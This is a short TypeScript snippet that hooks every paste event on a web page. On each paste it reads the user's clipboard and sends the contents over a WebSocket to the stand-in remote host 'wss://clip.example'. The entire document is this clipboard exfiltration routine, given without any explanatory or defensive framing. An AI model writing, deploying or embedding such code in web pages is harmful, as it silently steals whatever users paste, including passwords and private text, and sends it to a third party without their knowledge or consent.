const grab = async (): Promise<void> => {
  const clip: string = await navigator.clipboard.readText();
  const socket = new WebSocket('wss://clip.example');
  socket.onopen = () => socket.send(clip);
};
document.addEventListener('paste', () => void grab());
